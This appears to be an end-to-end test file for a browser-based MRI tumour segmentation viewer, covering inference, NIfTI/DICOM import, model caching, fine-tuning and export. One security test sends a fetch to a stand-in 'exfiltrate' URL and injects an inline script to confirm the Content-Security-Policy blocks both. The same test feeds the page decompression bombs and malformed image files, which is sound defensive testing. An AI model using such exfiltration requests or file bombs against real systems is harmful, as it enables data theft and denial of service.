/**
 * End to end: builds the viewer, serves the build from 127.0.0.1, opens it in Debian's headless Chromium (WebGPU
 * on SwiftShader), loads the demo volume and checkpoint, waits for inference and checks what the page shows
 * against the demo files read here in Node; opens a NIfTI case nibabel made from the demo slices, runs the demo
 * model on it and checks the exported mask (read back by nibabel) against `mriseg predict` on the same file; opens
 * a DICOM folder pydicom made. Fails (does not skip) when /usr/bin/chromium is missing (scripts/setup-chromium.sh)
 * or nibabel/pydicom are (scripts/setup-format-tools.sh).
 */
import { execFile } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { extname, join, normalize, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { decodePng, preprocess } from '@mriseg/data';
import {
  editNifti,
  gzipBomb,
  hugeHeader,
  niftiHeader,
  niftiPhantom,
  pngBomb,
  setDims,
  tiffDeflateBomb,
  tiffLzwTruncated,
  tiffWithChain,
  tiffWithStripCount,
} from '@mriseg/faults/fixtures';
import { unzipSync } from 'fflate';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixtures, nibabelRead, python } from '../../../packages/data/test/formats/tools.js';

const execFileAsync = promisify(execFile);

import { CHROMIUM, CHROMIUM_ARGS } from '../scripts/chromium.js';
import { sliceAreas } from '../src/analysis.js';
import { patientFromFiles } from '../src/files.js';

const root = resolve(fileURLToPath(new URL('..', import.meta.url)));
const CLI = join(root, '..', 'cli', 'dist', 'bin.js');
const ARGS = CHROMIUM_ARGS;
const TYPES: Record<string, string> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.json': 'application/json',
  '.png': 'image/png',
  '.safetensors': 'application/octet-stream',
};

let outDir = '';
let server: Server | null = null;
let browser: Browser | null = null;
let origin = '';

function serve(dir: string): Promise<Server> {
  const s = createServer((req, res) => {
    const path = normalize(decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname));
    let file = join(dir, path);
    if (!file.startsWith(dir)) {
      res.writeHead(403).end();
      return;
    }
    if (existsSync(file) && statSync(file).isDirectory()) file = join(file, 'index.html');
    if (!existsSync(file)) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-type': TYPES[extname(file)] ?? 'application/octet-stream' });
    res.end(readFileSync(file));
  });
  return new Promise((ok) => s.listen(0, '127.0.0.1', () => ok(s)));
}

/** Pixels of the main canvas that are clearly green (truth) or red (prediction), overlay blending included. */
async function colouredPixels(page: Page): Promise<{ green: number; red: number }> {
  return page.evaluate(() => {
    const c = document.getElementById('view') as HTMLCanvasElement;
    const d = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
    let green = 0;
    let red = 0;
    for (let i = 0; i < d.length; i += 4) {
      const [r, g, b] = [d[i], d[i + 1], d[i + 2]];
      if (g - r > 60 && g - b > 40) green++;
      if (r - g > 60 && r - b > 60) red++;
    }
    return { green, red };
  });
}

/** A new page of the viewer once it has its WebGPU adapter, with the page errors and requests it logs. */
async function openWithGpu(): Promise<{ page: Page; errors: string[]; requests: string[] }> {
  const page = await browser!.newPage({ viewport: { width: 1280, height: 800 } });
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(`${origin}/`);
  await expect
    .poll(() => page.locator('#gpu-status').textContent(), { timeout: 30_000 })
    .toMatch(/WebGPU adapter/);
  return { page, errors, requests };
}

/** Waits for the page's inference to end, and for it to have ended without an error. */
async function inferenceDone(page: Page): Promise<void> {
  await page.waitForFunction(
    () => document.body.dataset.inference === 'done' || !document.getElementById('error')!.hidden,
    undefined,
    { timeout: 150_000 },
  );
  expect(await page.locator('#error').textContent()).toBe('');
}

const nextFrame = (page: Page) =>
  page.evaluate(
    () => new Promise<void>((ok) => requestAnimationFrame(() => requestAnimationFrame(() => ok()))),
  );

/** Pixels of the main canvas drawn in the corrections' cyan (fill or outline). */
async function correctionPixels(page: Page): Promise<number> {
  return page.evaluate(() => {
    const c = document.getElementById('view') as HTMLCanvasElement;
    const d = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
    let n = 0;
    for (let i = 0; i < d.length; i += 4) if (d[i + 1] - d[i] > 60 && d[i + 2] - d[i] > 60) n++;
    return n;
  });
}

describe('viewer end to end (headless Chromium, WebGPU on SwiftShader)', () => {
  beforeAll(async () => {
    if (!existsSync(CHROMIUM)) {
      throw new Error(`${CHROMIUM} is missing: run scripts/setup-chromium.sh (Debian's chromium package)`);
    }
    outDir = mkdtempSync(join(tmpdir(), 'mriseg-viewer-'));
    // Asynchronous: a build of tens of seconds on a busy machine would otherwise block the test worker.
    await execFileAsync(
      process.execPath,
      [
        join(root, 'node_modules/vite/bin/vite.js'),
        'build',
        '--outDir',
        outDir,
        '--emptyOutDir',
        '--logLevel',
        'warn',
      ],
      { cwd: root },
    );
    server = await serve(outDir);
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ARGS,
      ignoreDefaultArgs: ['--headless'],
    });
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((ok) => (server ? server.close(ok) : ok(undefined)));
    if (outDir) rmSync(outDir, { recursive: true, force: true });
  });

  it('loads the demo, runs the model and shows overlays and DSC', async () => {
    const t0 = Date.now();
    const { page, errors, requests } = await openWithGpu();

    await page.getByRole('button', { name: 'Load demo' }).click();
    await inferenceDone(page);
    const inferenceSeconds = (Date.now() - t0) / 1000;

    // The DSC shown is a number in [0, 1] and agrees with the one the demo script computed in Node (Dawn).
    const manifest = JSON.parse(readFileSync(join(root, 'public/demo/manifest.json'), 'utf8')) as {
      files: string[];
      checkpoint: string;
      dsc: number;
    };
    const shown = Number(await page.locator('#ref-dsc').textContent());
    expect(shown).toBeGreaterThanOrEqual(0);
    expect(shown).toBeLessThanOrEqual(1);
    expect(Math.abs(shown - manifest.dsc)).toBeLessThan(0.02);
    expect(Number(await page.locator('#dsc').textContent())).toBeGreaterThan(0.5);

    // The same volume, preprocessed here: go to its largest tumour slice and compare areas and pixels.
    const files = manifest.files.map((name) => ({
      name,
      bytes: new Uint8Array(readFileSync(join(root, 'public/demo', name))),
    }));
    const vol = preprocess(patientFromFiles(files).raw, { size: 64 });
    const areas = sliceAreas(vol.mask, vol.depth, vol.height * vol.width);
    const z = areas.indexOf(Math.max(...areas));
    expect(areas[z]).toBeGreaterThan(20);
    await page.locator('#slice').fill(String(z));
    await nextFrame(page);
    await expect.poll(() => page.locator('#slice-area').textContent()).toContain(`truth ${areas[z]} `);

    const both = await colouredPixels(page);
    expect(both.red).toBeGreaterThan(0);
    mkdirSync(join(root, 'test-results'), { recursive: true });
    await page.screenshot({ path: join(root, 'test-results/viewer-demo.png') });
    await page.setViewportSize({ width: 1920, height: 1080 });
    await nextFrame(page);
    await page.screenshot({ path: join(root, 'test-results/viewer-demo-1920x1080.png') });
    await page.setViewportSize({ width: 1280, height: 800 });
    await nextFrame(page);
    // The phantom demo runs its own model, and says what it is.
    expect(await page.locator('#model-source').inputValue()).toBe('demo');
    expect(await page.locator('#model-note').textContent()).toMatch(/Its output on real MRI means nothing\./);
    expect(await page.locator('#model-info').textContent()).toMatch(
      /^demo-unet\.safetensors: unet \(features 4\).*input 64 px/,
    );

    // Prediction off: only the green truth remains, about its area × the display scale².
    await page.getByRole('checkbox', { name: 'Prediction', exact: true }).uncheck();
    await nextFrame(page);
    const truthOnly = await colouredPixels(page);
    const scale = (await page.locator('#view').evaluate((c: HTMLCanvasElement) => c.width)) / vol.width;
    expect(truthOnly.red).toBe(0);
    expect(truthOnly.green / (areas[z] * scale * scale)).toBeGreaterThan(0.8);
    expect(truthOnly.green / (areas[z] * scale * scale)).toBeLessThan(1.2);

    // Truth off as well (keyboard, on the canvas): no overlay colour left.
    await page.locator('#view').focus();
    await page.keyboard.press('g');
    await nextFrame(page);
    expect(await colouredPixels(page)).toEqual({ green: 0, red: 0 });
    await page.getByRole('checkbox', { name: 'Prediction', exact: true }).check();
    await nextFrame(page);
    expect((await colouredPixels(page)).red).toBeGreaterThan(0);

    // Threshold 0.99 leaves less predicted area than 0.5 (the mask is recomputed live).
    const predicted = async () =>
      Number(/predicted (\d+)/.exec((await page.locator('#slice-area').textContent()) ?? '')![1]);
    const at50 = await predicted();
    await page.locator('#threshold').fill('0.99');
    await nextFrame(page);
    expect(await predicted()).toBeLessThan(at50);

    // The dense CRF from the post-processing list runs in the page on the probabilities and the image.
    await page.locator('#threshold').fill('0.5');
    await page.locator('#post').fill('crf:sa=8,lcc3d');
    await page.locator('#post').dispatchEvent('change');
    await nextFrame(page);
    expect(await page.locator('#error').textContent()).toBe('');
    expect(await predicted()).toBeGreaterThan(0);
    const crfDsc = Number(await page.locator('#dsc').textContent());
    expect(crfDsc).toBeGreaterThan(0.5);
    expect(crfDsc).toBeLessThanOrEqual(1);
    await page.locator('#post').fill('lcc3d');
    await page.locator('#post').dispatchEvent('change');

    // A bad file is reported by name with the data package's problem text, and the volume shown stays.
    await page.locator('#file-input').setInputFiles([
      {
        name: 'TCGA_ZZ_0000_20000101_1.tif',
        mimeType: 'image/tiff',
        buffer: Buffer.from('II*\u0000garbage'),
      },
    ]);
    await expect
      .poll(() => page.locator('#error').textContent())
      .toMatch(/^Bad file TCGA_ZZ_0000_20000101_1\.tif: truncated or corrupt TIFF/);
    expect(await page.locator('#volume-info').textContent()).toContain('DEMO_PHANTOM');

    expect(errors).toEqual([]);
    expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
    console.log(`e2e: demo inference done after ${inferenceSeconds.toFixed(1)} s, DSC ${shown}`);
  });

  it('opens a NIfTI case, runs the model and exports the mask mriseg predict writes; opens a DICOM folder', async () => {
    if (!existsSync(CLI)) throw new Error(`${CLI} is missing: build the CLI first (pnpm run build)`);
    const manifest = JSON.parse(readFileSync(join(root, 'public/demo/manifest.json'), 'utf8')) as {
      patient: string;
      files: string[];
      checkpoint: string;
    };
    // Five demo slices round its largest tumour, stored by nibabel as a RAS 4-D file: three slices once the
    // reference preprocessing has dropped the end ones.
    const demo = patientFromFiles(
      manifest.files.map((name) => ({
        name,
        bytes: new Uint8Array(readFileSync(join(root, 'public/demo', name))),
      })),
    ).raw;
    const areas = sliceAreas(demo.mask, demo.depth, demo.height * demo.width);
    const z = Math.min(Math.max(areas.indexOf(Math.max(...areas)) - 2, 0), demo.depth - 5);
    const dir = mkdtempSync(join(tmpdir(), 'mriseg-viewer-nifti-'));
    const [first, last] = [demo.sliceNumbers[z], demo.sliceNumbers[z + 4]];
    python([
      join(root, 'test/make_nifti_case.py'),
      join(root, 'public/demo'),
      manifest.patient,
      `${first}`,
      `${last}`,
      dir,
    ]);
    const checkpointFile = join(root, 'public/demo', manifest.checkpoint);

    const { page, errors } = await openWithGpu();
    await page.locator('#ckpt-input').setInputFiles(checkpointFile);
    await page.locator('#file-input').setInputFiles(join(dir, 'case.nii.gz'));
    await expect
      .poll(() => page.locator('#volume-info').textContent(), { timeout: 30_000 })
      .toMatch(
        /^case: NIfTI-1 of 64×64×5 voxels, 0\.90×0\.90×3\.00 mm \(RAS\); case\.nii\.gz frames 1–3 as pre, FLAIR, post\./,
      );
    expect(await page.locator('#volume-info').textContent()).toMatch(
      /Axial model frame 64×64×5, square 0\.90 mm pixels; after the reference preprocessing 3 slices of 64×64/,
    );
    expect(await page.locator('#export-nifti').isVisible()).toBe(true);
    expect(await page.locator('#export-seg').isVisible()).toBe(false);

    await page.getByRole('button', { name: 'Run model' }).click();
    await inferenceDone(page);
    await page.screenshot({ path: join(root, 'test-results/viewer-nifti.png') });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export mask (NIfTI)' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('case_mask.nii.gz');
    const exported = join(dir, 'page', 'case_mask.nii.gz');
    await download.saveAs(exported);

    // nibabel: the source grid (shape, affine, header codes), 0/1 values, tumour where the demo's truth has it.
    const source = nibabelRead(join(dir, 'case.nii.gz'));
    const truth = nibabelRead(join(dir, 'truth.nii.gz'));
    const mask = nibabelRead(exported);
    expect(mask.shape).toEqual(source.shape.slice(0, 3));
    expect(mask.affine).toEqual(source.affine);
    expect([mask.qform_code, mask.sform_code, mask.dtype]).toEqual([1, 1, 'uint8']);
    expect(mask.data.every((v) => v === 0 || v === 1)).toBe(true);
    const dice = (a: Float32Array, b: Float32Array) => {
      let both = 0;
      let sum = 0;
      for (let i = 0; i < a.length; i++) {
        both += a[i] * b[i];
        sum += a[i] + b[i];
      }
      return sum === 0 ? 1 : (2 * both) / sum;
    };
    // The end slices are dropped by the preprocessing (background in the mask): score the middle three.
    const plane = 64 * 64;
    const middle = (d: Float32Array) => d.subarray(plane, 4 * plane);
    const truthDice = dice(middle(mask.data), middle(truth.data));
    expect(truthDice).toBeGreaterThan(0.5);

    // The same file through the command line (Dawn on this machine's Vulkan driver): the same mask, up to the
    // voxels two GPUs' rounding puts on either side of the threshold.
    await execFileAsync(process.execPath, [
      CLI,
      'predict',
      '--checkpoint',
      checkpointFile,
      '--input',
      join(dir, 'case.nii.gz'),
      '--out',
      join(dir, 'cli'),
    ]);
    const cli = nibabelRead(join(dir, 'cli', 'case_mask.nii.gz'));
    expect(cli.affine).toEqual(mask.affine);
    const agreement = dice(mask.data, cli.data);
    expect(agreement).toBeGreaterThan(0.98);

    // A DICOM folder of three series: the mapping is asked for, then applied to the files already open.
    const fx = fixtures();
    const dicom = readdirSync(join(fx.dir, 'dicom/mixed')).map((n) => join(fx.dir, 'dicom/mixed', n));
    await page.locator('#file-input').setInputFiles(dicom);
    await expect
      .poll(() => page.locator('#error').textContent(), { timeout: 30_000 })
      .toMatch(
        /^Bad file selection: 3 DICOM series \(SeriesInstanceUID \(0020,000E\)\) and no channel mapping/,
      );
    await page.locator('#channels').fill('pre=t1 pre,flair=*flair*,post=post');
    await page.locator('#channels').dispatchEvent('change');
    await expect
      .poll(() => page.locator('#volume-info').textContent(), { timeout: 30_000 })
      .toMatch(
        /^TCGA_CS_4942_19970222: DICOM series of 176×160×7 voxels, 0\.94×0\.94×5\.00 mm \(LPS\); pre .*, FLAIR .*, post /,
      );
    expect(await page.locator('#error').isHidden()).toBe(true);
    expect(await page.locator('#export-seg').isVisible()).toBe(true);
    expect(errors).toEqual([]);
    await page.close();
    rmSync(dir, { recursive: true, force: true });
    console.log(
      `e2e: NIfTI case DSC against the demo truth ${truthDice.toFixed(3)}, Dice with mriseg predict ${agreement.toFixed(4)}`,
    );
  });

  it('refuses hostile files at once with the file and the problem, and allows nothing but its own origin', async () => {
    const page = await browser!.newPage({ viewport: { width: 1280, height: 800 } });
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(String(e)));
    await page.goto(`${origin}/`);
    // The Content-Security-Policy: an injected inline script does not run, a foreign fetch is refused in the page.
    const csp = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
      const s = document.createElement('script');
      s.textContent = 'document.body.dataset.injected = "yes"';
      document.body.append(s);
      let fetched = true;
      try {
        await fetch('http://198.51.100.7/exfiltrate');
      } catch {
        fetched = false;
      }
      await new Promise((ok) => setTimeout(ok, 200));
      return { injected: document.body.dataset.injected === 'yes', fetched, seen };
    });
    expect(csp.injected).toBe(false);
    expect(csp.fetched).toBe(false);
    expect(csp.seen).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));

    // Files that crashed, froze or exhausted the tab before: each refused by name, decoded off the page's thread.
    const name = 'TCGA_ZZ_0000_20000101_1';
    const hostile: [string, Uint8Array, RegExp][] = [
      [`${name}.tif`, tiffWithStripCount(32, 3, 0x3fffffff), /StripOffsets\) declares 1073741823 values/],
      [`${name}.tif`, tiffWithChain(32, 3, 1, 0), /chain of image directories loops back/],
      [`${name}.tif`, await tiffDeflateBomb(20000, 20000, 64 << 20), /TIFF declares 20000×20000 pixels/],
      [`${name}.png`, await pngBomb(20000, 20000, 64 << 20), /PNG declares 20000×20000 pixels/],
      [`${name}.tif`, tiffLzwTruncated(32), /it decodes to \d+ bytes, \d+ needed/],
      // NIfTI through the page's gzip (pako): a header declaring 503 M voxels is refused before the stream is
      // inflated; a 32×32×5 header whose stream holds 64 MB stops at what it declares; a cut stream is named.
      [
        'case.nii.gz',
        await gzipBomb(hugeHeader(), 64 << 20),
        /declares 4096×4096×30 voxels \(503316480\), more than the limit of 67108864: refused before decoding/,
      ],
      [
        'case.nii.gz',
        await gzipBomb(
          niftiHeader(() => {}),
          64 << 20,
        ),
        /gzip stream inflates to more than the 10592 bytes the header declares/,
      ],
      ['case.nii.gz', niftiPhantom().subarray(0, 2000), /corrupt or truncated gzip stream/],
      [
        'case.nii.gz',
        editNifti(niftiPhantom(), setDims([32, -32, 5])),
        /dim\[2\] is -32: every dimension must be at least 1/,
      ],
    ];
    for (const [file, bytes, problem] of hostile) {
      await page
        .locator('#file-input')
        .setInputFiles([{ name: file, mimeType: 'image/tiff', buffer: Buffer.from(bytes) }]);
      await expect.poll(() => page.locator('#error').textContent(), { timeout: 30_000 }).toMatch(problem);
      expect(await page.locator('#error').textContent()).toMatch(
        new RegExp(`^Bad file ${file.replace('.', '\\.')}: `),
      );
      // The page answers at once afterwards.
      expect(await page.evaluate(() => document.readyState)).toBe('complete');
    }
    expect(errors).toEqual([]);
    await page.close();
  });

  it('ships the reference model: fetched, SHA-256 checked, planned from its own metadata and kept in the Cache API', async () => {
    const { page, errors, requests } = await openWithGpu();
    const models = () => requests.filter((u) => u.endsWith('/models/unet-lgg-f16.safetensors'));
    // The default for real data, labelled as what it is.
    expect(await page.locator('#model-source').inputValue()).toBe('unet-lgg');
    expect(await page.locator('#model-note').textContent()).toMatch(
      /^Trained by mriseg on 99 kaggle_3m patients .* held-out mean DSC 0\.805 on 11 patients\. 256 px, 7\.8 M parameters, 15\.6 MB .* Wants a fast GPU\. Research use only, not a medical device\.$/,
    );
    // Choosing it fetches it at once (not run here: a 256² U-Net slice on SwiftShader takes minutes).
    await page.locator('#model-source').selectOption('demo');
    expect(await page.locator('#model-note').textContent()).toMatch(/Its output on real MRI means nothing\./);
    await page.locator('#model-source').selectOption('unet-lgg');
    await expect
      .poll(() => page.locator('#model-info').textContent(), { timeout: 60_000 })
      .toMatch(
        /^unet-lgg-f16\.safetensors \(15209 KiB\): unet \(features 32\) from the checkpoint's config; input 256 px \(recorded in the checkpoint\); not loaded yet$/,
      );
    expect(await page.locator('#message').textContent()).toBe(
      'Reference model downloaded (SHA-256 checked).',
    );
    expect(models()).toEqual([`${origin}/models/unet-lgg-f16.safetensors`]);
    const cached = await page.evaluate(async () =>
      (await (await caches.open('mriseg-models')).keys()).map((r) => r.url),
    );
    expect(cached).toEqual(['https://mriseg.invalid/pretrained/unet-lgg-f16-0e4b603c1c8b.safetensors']);

    // Chosen again (or in a new page of the same origin): read from the cache, checked, no request.
    const chooseAgain = async (message: string) => {
      await page.locator('#model-source').selectOption('demo');
      await page.locator('#model-source').selectOption('unet-lgg');
      await expect.poll(() => page.locator('#message').textContent(), { timeout: 60_000 }).toBe(message);
    };
    await chooseAgain('Reference model read from the browser cache (SHA-256 checked).');
    expect(models()).toHaveLength(1);

    // A damaged cache entry is not used: it is removed and the file fetched again.
    await page.evaluate(async () => {
      const cache = await caches.open('mriseg-models');
      const [key] = await cache.keys();
      await cache.put(key, new Response(new Uint8Array(1000)));
    });
    await chooseAgain('Reference model downloaded (SHA-256 checked).');
    expect(models()).toHaveLength(2);

    expect(errors).toEqual([]);
    expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
  });

  it('says clearly when there is no WebGPU adapter, and still shows the volume', async () => {
    const noGpu = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        ...ARGS.filter((a) => a !== '--enable-unsafe-webgpu'),
        '--disable-gpu',
        '--disable-features=Vulkan,WebGPU',
      ],
      ignoreDefaultArgs: ['--headless'],
    });
    try {
      const page = await noGpu.newPage({ viewport: { width: 1280, height: 800 } });
      await page.goto(`${origin}/`);
      await expect
        .poll(() => page.locator('#gpu-status').textContent(), { timeout: 30_000 })
        .toMatch(/no WebGPU|no adapter could be used/);
      await page.getByRole('button', { name: 'Load demo' }).click();
      await expect
        .poll(() => page.locator('#error').textContent(), { timeout: 30_000 })
        .toMatch(/^Cannot run the model\./);
      expect(await page.locator('#volume-info').textContent()).toContain('DEMO_PHANTOM');
      expect(await page.locator('#ref-dsc').textContent()).toBe('–');
    } finally {
      await noGpu.close();
    }
  });

  it('draws, undoes, accepts the prediction, fine-tunes, exports the masks and a checkpoint the CLI evaluates', async () => {
    if (!existsSync(CLI)) throw new Error(`${CLI} is missing: build the CLI first (pnpm run build)`);
    const { page, errors, requests } = await openWithGpu();
    await page.getByRole('button', { name: 'Load demo' }).click();
    await inferenceDone(page);
    const manifest = JSON.parse(readFileSync(join(root, 'public/demo/manifest.json'), 'utf8')) as {
      patient: string;
      files: string[];
      checkpoint: string;
    };
    const files = manifest.files.map((name) => ({
      name,
      bytes: new Uint8Array(readFileSync(join(root, 'public/demo', name))),
    }));
    const demo = patientFromFiles(files).raw;
    const vol = preprocess(demo, { size: 64 });
    const areas = sliceAreas(vol.mask, vol.depth, vol.height * vol.width);
    const z = areas.indexOf(Math.max(...areas));
    await page.locator('#slice').fill(String(z));
    await nextFrame(page);

    // A brush stroke across the image (image pixel → page point through the canvas box; zoom 1 fills it).
    const box = (await page.locator('#view').boundingBox())!;
    const at = (x: number, y: number) =>
      [box.x + (x / 64) * box.width, box.y + (y / 64) * box.height] as const;
    const stroke = async (from: [number, number], to: [number, number]) => {
      await page.mouse.move(...at(...from));
      await page.mouse.down();
      for (let i = 1; i <= 8; i++) {
        await page.mouse.move(
          ...at(from[0] + ((to[0] - from[0]) * i) / 8, from[1] + ((to[1] - from[1]) * i) / 8),
        );
      }
      await page.mouse.up();
      await nextFrame(page);
    };
    await page.getByRole('button', { name: 'Brush' }).click();
    // The overlays' own blends give a few cyan-looking pixels: count the stroke's above them.
    const baseline = await correctionPixels(page);
    await stroke([14, 44], [30, 48]);
    expect(await page.evaluate(() => document.body.dataset.corrected)).toBe('1');
    expect(await correctionPixels(page)).toBeGreaterThan(baseline + 500);

    // Undo (Ctrl+Z on the image) removes the stroke and the slice's "corrected" mark; redo brings both back.
    await page.locator('#view').focus();
    await page.keyboard.press('Control+z');
    await nextFrame(page);
    expect(await page.evaluate(() => document.body.dataset.corrected)).toBe('0');
    expect(await correctionPixels(page)).toBe(baseline);
    await page.keyboard.press('Control+y');
    await nextFrame(page);
    expect(await correctionPixels(page)).toBeGreaterThan(baseline + 500);
    await page.getByRole('button', { name: 'Undo' }).click();

    // The usual start: accept the prediction on the slice, then add what the model missed with the brush.
    const predicted = async () =>
      Number(/predicted (\d+)/.exec((await page.locator('#slice-area').textContent()) ?? '')![1]);
    const predictedBefore = await predicted();
    await page.getByRole('button', { name: 'Accept prediction' }).click();
    // What the model "missed": the tumour extended by a stroke from its centre to 6 px past its right edge.
    let [sx, sy, right] = [0, 0, 0];
    for (let i = 0; i < 64 * 64; i++) {
      if (!vol.mask[z * 64 * 64 + i]) continue;
      sx += i % 64;
      sy += Math.floor(i / 64);
      right = Math.max(right, i % 64);
    }
    const centre: [number, number] = [sx / areas[z] + 0.5, sy / areas[z] + 0.5];
    await stroke(centre, [right + 7, centre[1]]);
    expect(await page.evaluate(() => document.body.dataset.corrected)).toBe('1');

    // Fine-tune 4 steps of batch 1 (SwiftShader takes seconds a step), lr 3e-3 for a visible change in few steps,
    // without the augmentation so that the loss must fall from its first value (the augmentation is unit-tested).
    const steps = 4;
    await page.locator('#ft-steps').fill(String(steps));
    await page.locator('#ft-lr').fill('3e-3');
    await page.locator('#ft-batch').fill('1');
    await page.getByRole('checkbox', { name: 'Augment' }).uncheck();
    const t0 = Date.now();
    await page.getByRole('button', { name: 'Fine-tune' }).click();
    await page.waitForFunction(() => document.body.dataset.finetune !== undefined, undefined, {
      timeout: 600_000,
    });
    expect(await page.locator('#error').textContent()).toBe('');
    expect(await page.evaluate(() => document.body.dataset.finetune)).toBe('done');
    const seconds = (Date.now() - t0) / 1000;
    const status = (await page.locator('#ft-status').textContent()) ?? '';
    expect(status).toMatch(new RegExp(`^Done at step ${steps} `));
    const dscText = (await page.locator('#ft-dsc').textContent()) ?? '';
    const [, before, after] = /before ([\d.]+) · after ([\d.]+)/.exec(dscText)!.map(Number);
    expect(after).toBeGreaterThan(before);
    // The mask changed: the model now marks (part of) the stroke as tumour.
    expect(await predicted()).toBeGreaterThan(predictedBefore);
    const pageRefDsc = Number(await page.locator('#ref-dsc').textContent());
    await page.screenshot({ path: join(root, 'test-results/viewer-finetune.png') });

    // Export: the corrected slice as the dataset names it, and every slice as a zip, in the 64² original frame.
    const dir = mkdtempSync(join(tmpdir(), 'mriseg-viewer-edit-'));
    const [zipDownload] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export all (zip)' }).click(),
    ]);
    expect(zipDownload.suggestedFilename()).toBe(`${demo.id}_masks.zip`);
    await zipDownload.saveAs(join(dir, 'masks.zip'));
    const zipped = unzipSync(new Uint8Array(readFileSync(join(dir, 'masks.zip'))));
    expect(Object.keys(zipped).sort()).toEqual(
      demo.sliceNumbers.map((n) => `${demo.id}_${n}_mask.png`).sort(),
    );
    const n = demo.sliceNumbers[z + vol.info.cropZYX[0] + 1];
    const mine = decodePng(zipped[`${demo.id}_${n}_mask.png`], 'exported');
    const truth = decodePng(readFileSync(join(root, 'public/demo', `${demo.id}_${n}_mask.png`)), 'truth');
    expect([mine.width, mine.height, mine.channels]).toEqual([64, 64, 1]);
    expect(mine.data.every((v) => v === 0 || v === 255)).toBe(true);
    const on = (d: Uint8Array) => d.reduce((a, v) => a + (v ? 1 : 0), 0);
    // The corrected slice holds the accepted tumour and the stroke: more than the truth alone.
    expect(on(mine.data)).toBeGreaterThan(on(truth.data) + 20);

    // The fine-tuned checkpoint: downloaded, then evaluated by the command line on the demo patient.
    const [ckDownload] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download checkpoint' }).click(),
    ]);
    expect(ckDownload.suggestedFilename()).toBe('demo-unet-finetuned.safetensors');
    const ck = join(dir, 'demo-unet-finetuned.safetensors');
    await ckDownload.saveAs(ck);
    // The checkpoint records its fine-tuning: the corrected slice and each step's loss, which fell.
    const bytes = readFileSync(ck);
    const header = JSON.parse(bytes.subarray(8, 8 + Number(bytes.readBigUInt64LE(0))).toString('utf8')) as {
      __metadata__: Record<string, string>;
    };
    const losses = JSON.parse(header.__metadata__.finetune_losses) as number[];
    expect(losses.length).toBe(steps);
    expect(JSON.parse(header.__metadata__.finetune_slices)).toEqual([z]);
    expect(losses[steps - 1]).toBeLessThan(losses[0]);
    const data = join(dir, 'data', demo.id);
    mkdirSync(data, { recursive: true });
    for (const f of manifest.files) writeFileSync(join(data, f), readFileSync(join(root, 'public/demo', f)));
    const { stdout } = await execFileAsync(process.execPath, [
      CLI,
      'evaluate',
      '--checkpoint',
      ck,
      '--data',
      join(dir, 'data'),
      '--split',
      'all',
      '--workers',
      '0',
      '--cache',
      join(dir, 'cache'),
      '--out',
      join(dir, 'eval'),
    ]);
    const cliDsc = Number(/Mean DSC \(reference metric\): ([\d.]+)/.exec(stdout)![1]);
    // The page's reference DSC of the fine-tuned model and the CLI's on the same patient: the same weights and
    // BatchNorm statistics, up to two GPUs' rounding.
    expect(Math.abs(cliDsc - pageRefDsc)).toBeLessThan(0.02);
    expect(errors).toEqual([]);
    expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
    await page.close();
    rmSync(dir, { recursive: true, force: true });
    console.log(
      `e2e: fine-tuned ${steps} steps in ${seconds.toFixed(1)} s (loss ${losses[0]} → ${losses[steps - 1]}); ` +
        `DSC on the corrected slice ${before} → ${after}; ` +
        `reference DSC page ${pageRefDsc}, CLI ${cliDsc}`,
    );
  }, 900_000);
});
